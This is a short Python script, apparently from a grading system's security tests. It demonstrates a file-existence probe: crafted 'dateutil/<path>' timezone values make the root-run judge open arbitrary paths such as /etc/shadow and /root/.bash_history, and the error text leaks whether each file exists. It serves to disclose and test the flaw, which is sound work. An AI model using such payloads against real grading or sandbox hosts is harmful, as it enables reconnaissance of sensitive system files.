"""HOLE (minor): a tz-aware column or Timestamp whose zone is "dateutil/<path>" makes the judge (outside the sandbox,
as root) open <path>: "Invalid TZif file: magic not found" when the file exists, a naive zone when it does not.
The visible test's message reaches the student's feedback: a probe of which files exist on the grading machine.
Run (in-process demonstration): .venv/bin/python tests/attacks/tz_file_probe.py
"""
from netcourse.grading import plain

for tz in ["dateutil//root/.bash_history", "dateutil//nonexistent", "dateutil//etc/shadow"]:
    column = {"dtype": "datetimetz", "tz": tz, "unit": "ns", "values": [0]}
    series = {"$": "Series", "name": None, "index": {"$": "Index", "range": [0, 1, 1], "name": None}, "data": column}
    try:
        value = plain.decode(series)
        print(tz, "-> decoded, zone", value.dt.tz)
    except Exception as error:  # noqa: BLE001
        print(tz, "->", type(error).__name__, str(error)[:120])
